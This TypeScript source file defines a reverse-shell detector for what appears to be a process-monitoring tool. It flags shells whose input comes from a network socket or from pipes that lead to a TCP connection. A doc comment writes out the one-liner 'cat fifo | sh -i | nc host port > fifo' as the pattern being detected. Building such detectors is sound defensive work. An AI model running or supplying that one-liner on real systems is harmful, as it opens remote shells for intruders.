import type { ProcessImage } from '../lineage/process-table.ts';
import type { ProcessNode } from '../spans/process-node.ts';
import type { Detector, Hit } from './detector.ts';
import { hostOf } from './host-of.ts';
import type { Pipes } from './pipes.ts';
import { isInteractive, readsProgram } from './program.ts';

/** A shell or interpreter that takes its commands from the network: its standard input is a socket of IPv4 or IPv6, or pipes lead there and back. */
export function reverseShell(pipes: Pipes): Detector {
  const hosts = new WeakMap<ProcessImage, string>();
  return {
    executed({ image }) {
      if (image.stdin.kind !== 'network' || !readsProgram(image)) return null;
      return hitOf(hostAbove(image, hosts) ?? 'a host that connected to it');
    },
    connected(event, node, origin) {
      if (event.transport !== 'tcp') return null;
      const host = `${hostOf(event, origin)}:${event.port}`;
      hosts.set(node.image, host);
      const shell = pipes.writer(node.image.stdin);
      return shell !== null && isFedByPipe(shell) ? { ...hitOf(host), severity: 'High', by: shell } : null;
    },
  };
}

/** `cat fifo | sh -i | nc host port > fifo` */
function isFedByPipe({ image }: ProcessNode): boolean {
  return image.stdin.kind === 'pipe' && isInteractive(image);
}

function hitOf(host: string): Hit {
  return { rule: 'reverse-shell', subject: { kind: 'host', name: host } };
}

/** Where the process went before it became a shell, or the one that started it. */
function hostAbove(image: ProcessImage, hosts: WeakMap<ProcessImage, string>): string | null {
  for (let at = image.parent; at !== null; at = at.parent) {
    const host = hosts.get(at);
    if (host !== undefined) return host;
  }
  return null;
}
